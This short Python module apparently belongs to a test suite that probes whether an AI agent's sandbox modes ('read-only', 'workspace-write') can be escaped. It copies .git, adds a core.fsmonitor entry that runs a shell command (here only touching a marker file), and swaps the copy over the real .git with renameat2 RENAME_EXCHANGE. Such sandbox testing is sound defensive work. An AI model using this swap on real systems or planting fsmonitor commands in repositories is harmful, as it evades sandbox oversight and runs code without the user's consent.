"""swap .git against a repository made inside, in one renameat2(RENAME_EXCHANGE)"""
import shutil

from kernel import call
import ctypes

STOPS = ["read-only", "workspace-write"]


def attempt(bait):
    evil = bait.ws + "/evil"
    shutil.copytree(bait.ws + "/.git", evil, ignore=shutil.ignore_patterns("hooks"))
    with open(evil + "/config", "a") as config:
        config.write("[core]\n\tfsmonitor = \"touch %s; false\"\n" % bait.pwned)
    call("renameat2", -100, ctypes.c_char_p(evil.encode()), -100, ctypes.c_char_p((bait.ws + "/.git").encode()), 2)
    return "swapped"


def escaped(bait):
    bait.git("status")
    return bait.executed()
